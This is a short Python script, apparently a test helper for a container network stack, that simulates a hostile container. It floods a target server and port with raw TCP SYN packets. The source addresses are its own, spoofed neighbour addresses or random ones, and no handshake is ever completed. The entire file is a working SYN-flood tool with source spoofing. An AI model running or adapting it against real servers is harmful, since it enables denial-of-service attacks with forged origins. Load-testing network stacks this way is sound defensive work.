#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""slirp_syns.py SERVER PORT SECONDS SOURCES: SYNs of a hostile container, as fast as it can: of its own
address (SOURCES own), of its neighbours' (net: 10.88.1.0/24), of anybody's (any). None is completed:
the caller sees to that for its own address. Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
  total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
  while total >> 16:
    total = (total & 0xffff) + (total >> 16)
  return ~total & 0xffff


def syn(r, source, to, port):
  sport, seq = r.randrange(1024, 65536), r.randrange(1 << 32)
  def tcp(total):
    return struct.pack('!HHIIBBHHHBBH', sport, port, seq, 0, 0x60, 2, 65535, total, 0, 2, 4, 1460)
  body = tcp(0)
  pseudo = source + to + struct.pack('!BBH', 0, 6, len(body))
  return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 0, 0x4000, 64, 6, 0, source, to) + \
    tcp(checksum(pseudo + body))


def main(server, port, seconds, sources):
  r = random.Random(1)
  to = socket.inet_aton(server)
  s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
  n, end = 0, time.monotonic() + float(seconds)
  while time.monotonic() < end:
    for _ in range(50):
      if sources == 'own':
        source = socket.inet_aton('10.88.1.2')
      elif sources == 'net':
        source = bytes((10, 88, 1, r.randrange(1, 255)))
      else:
        source = r.randbytes(4)
      try:
        s.sendto(syn(r, source, to, int(port)), (server, 0))
        n += 1
      except OSError:
        pass
    time.sleep(0.002)
  print(n, 'sent')


main(*sys.argv[1:])
